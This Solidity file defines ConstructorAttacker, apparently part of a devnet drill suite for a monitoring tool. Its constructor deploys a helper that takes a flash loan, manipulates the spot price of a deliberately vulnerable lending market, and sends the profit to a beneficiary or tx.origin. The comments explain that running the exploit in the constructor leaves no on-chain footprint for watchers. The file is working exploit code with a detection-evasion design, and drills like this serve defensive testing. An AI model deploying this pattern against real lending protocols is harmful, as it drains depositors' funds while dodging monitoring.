// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S DEVNET DRILLS ONLY (see SpotPriceAttacker).
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {SpotPriceAttacker} from "./SpotPriceAttacker.sol";
import {VulnerableSpotPriceLendingMarket} from "./VulnerableSpotPriceLendingMarket.sol";

/// @title ConstructorAttacker
/// @notice Drill attacker whose whole exploit runs inside its constructor, i.e. in one
/// contract-creation transaction with no prior on-chain footprint (no attack contract to watch,
/// no call to a known selector: the mempool only shows init code).
/// @dev While a constructor runs, the contract's address has no code yet, so an ERC-3156 lender's
/// `onFlashLoan` call back to `address(this)` would fail (nothing executes, no bytes32 comes back,
/// and the lender's call reverts decoding the empty return data). The constructor therefore deploys a
/// SpotPriceAttacker helper (owned by this contract), has it run the flash-loan-funded attack, and
/// forwards the profit, all within the same creation transaction.
contract ConstructorAttacker {
    using SafeERC20 for IERC20;

    /// @notice The helper that received the flash-loan callback.
    SpotPriceAttacker public immutable helper;
    /// @notice Debt tokens sent to the beneficiary.
    uint256 public immutable profit;
    /// @notice Receiver of the profit.
    address public immutable beneficiary;

    /// @param lender ERC-3156 lender holding the market's debt token.
    /// @param market Target market.
    /// @param amount Debt tokens to flash-borrow.
    /// @param beneficiary_ Receiver of the profit; address(0) means `tx.origin`.
    constructor(
        IERC3156FlashLender lender,
        VulnerableSpotPriceLendingMarket market,
        uint256 amount,
        address beneficiary_
    ) {
        address to = beneficiary_ == address(0) ? tx.origin : beneficiary_;
        SpotPriceAttacker h = new SpotPriceAttacker();
        // The helper sends its profit to its owner: this contract (a plain ERC-20 transfer to an
        // address under construction works).
        uint256 p = h.attackWithFlashLender(lender, market, amount);
        market.debtToken().safeTransfer(to, p);
        helper = h;
        profit = p;
        beneficiary = to;
    }
}
